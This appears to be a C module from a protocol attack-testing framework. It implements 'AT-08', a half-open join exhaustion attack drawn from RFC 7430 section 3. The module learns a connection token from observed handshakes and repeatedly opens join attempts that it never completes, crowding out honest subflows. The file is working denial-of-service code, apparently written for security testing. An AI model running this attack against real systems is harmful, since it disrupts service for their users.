/* SPDX-License-Identifier: MIT */
/*
 * AT-08: whoever knows a token opens joins and never completes them, so that
 * the victim has no room for an honest one. RFC 7430 section 3. The token is in
 * clear in the handshake, or follows from the key that is.
 */
#include "atk_heard.h"
#include "atk_joining.h"
#include "atk_table.h"

enum { FIRST_PORT = 30000 };

enum { JOINS, EVERY, TOKEN };
enum { TOKEN_RANDOM = 1 };
static const char *const token_words[] = {"heard", "random", NULL};
static const struct atk_param params[] = {
    [JOINS] = {"joins", ATK_P_COUNT, .initial = 16, .min = 1, .max = 10000},
    [EVERY] = {"every", ATK_P_TIME, .initial = 1000000000, .min = 1000000,
               .max = UINT64_C(1000000000000)},
    [TOKEN] = {"token", ATK_P_WORD, .words = token_words},
    {.name = NULL},
};

struct state {
    struct atk_heards heard;
    uint16_t next_port;
};

static enum atk_verdict see(struct atk *a, void *state,
                            const struct atk_sight *s, uint64_t now)
{
    struct state *st = state;
    struct atk_heard *h = atk_heards_see(&st->heard, s);

    (void)now;
    if (h && atk_param(a, TOKEN) == TOKEN_RANDOM)
        atk_random(a, &h->of[MPX_ROLE_R].token, h->profile->token_len);
    return ATK_PASS;
}

static void open_one(struct atk *a, struct state *st, const struct atk_heard *h,
                     uint64_t now)
{
    struct atk_tcp t = {.flow = {0}};
    uint32_t nonce;

    atk_tcp_open_to(&t, a, &h->ends,
                    (uint16_t)(FIRST_PORT + st->next_port++ % 30000));
    atk_random(a, &nonce, sizeof nonce);
    atk_joining_syn(a, &t, h, MPX_ROLE_R, false, nonce, now);
}

static void act(struct atk *a, void *state, uint64_t now)
{
    struct state *st = state;

    for (unsigned i = 0; i < st->heard.n; i++)
        for (uint64_t n = 0; n < atk_param(a, JOINS); n++)
            open_one(a, st, &st->heard.v[i], now);
    atk_set_timer(a, now + atk_param(a, EVERY));
}

const struct atk_ops atk_half_open_exhaust = {
    .name = "exhaust-half-open",
    .id = "AT-08",
    .does = "opens joins with a known token and completes none, so that there "
            "is no room for an honest one",
    .source = "RFC 7430 section 3",
    .powers = ATK_READ | ATK_HOST,
    .params = params,
    .state_size = sizeof(struct state),
    .see = see,
    .act = act,
    .timer = act,
};
